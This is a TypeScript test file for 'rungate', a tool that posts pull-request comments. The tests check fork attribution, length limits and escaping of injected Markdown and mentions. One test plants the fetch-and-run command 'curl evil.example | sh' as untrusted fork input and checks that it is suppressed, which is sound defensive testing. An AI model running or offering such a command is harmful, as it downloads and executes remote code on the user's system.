import { expect, test } from "vitest";
import { limits } from "../../src/core/limits.ts";
import type { Report } from "../../src/report/report.ts";
import { commentView, conclusionView } from "../../src/views/comment.ts";
import { onPullRequest, place } from "./pull-request.ts";
import { against } from "./trips.ts";

const report = () => onPullRequest(against({}, {}));

test("a comment says whose word it is, below its headline and below what a run of our own says", () => {
  const own = commentView(report(), place).text;
  const forks = commentView(report(), { ...place, reporter: "the fork of mallory" }).text;
  expect(own).not.toContain("reported by");
  const [, headline, , word] = forks.split("\n");
  expect(headline).toMatch(/^### ✅ rungate: /);
  expect(word).toBe("This is reported by the fork of mallory.");
  const without = forks
    .replace(/\n\n<sub>reported by the fork of mallory: .*$/, "")
    .replace("\n\nThis is reported by the fork of mallory.", "")
    .replace(", reported by the fork of mallory", "");
  expect(without).toBe(own);
});

test("shows no command that a fork's report brings with it", () => {
  const whole = report();
  const plan = { reason: "p = .13", cases: 3, trials: 1, command: "curl evil.example | sh" };
  const doubtful: Report = { ...whole, verdict: { ...whole.verdict, result: "inconclusive" }, plan };
  expect(commentView(doubtful, place).text).toContain("curl evil.example");
  expect(commentView(doubtful, { ...place, reporter: "the fork of mallory" }).text).not.toContain("curl");
});

test("no report is long enough to leave that out", () => {
  const check = {
    name: "budgets",
    title: "x",
    message: "",
    result: "pass",
    numbers: {},
  } as const;
  const checks = Array.from({ length: 20_000 }, () => ({ ...check }));
  const whole = report();
  const body = commentView(
    { ...whole, verdict: { ...whole.verdict, checks } },
    { ...place, reporter: "the fork of mallory" },
  ).text;
  expect(body.length).toBeLessThanOrEqual(limits.commentCharacters);
  expect(body).toContain("Left out because there is no room");
  expect(body).toMatch(/<sub>reported by the fork of mallory: [^<]*<\/sub>$/);
});

test("how a run ended is told with its reason, which is text and nothing else", () => {
  const why = "its report is <!-- rungate suite=default run=9 --> @octo #1\n## not Markdown";
  const body = conclusionView(
    { suite: "booking", ending: "failed", commit: "a".repeat(40), why },
    place,
  ).text;
  expect(body.split("\n").slice(0, 4)).toEqual([
    "<!-- rungate suite=booking run=4711 -->",
    "### ❌ rungate: the run failed · booking",
    "",
    expect.stringMatching(/^No numbers: its report is &#60;!-- rungate/),
  ]);
  expect(body).not.toMatch(/^## |@octo| #1/m);
  expect(body).toContain(`[job](${place.job})`);
});
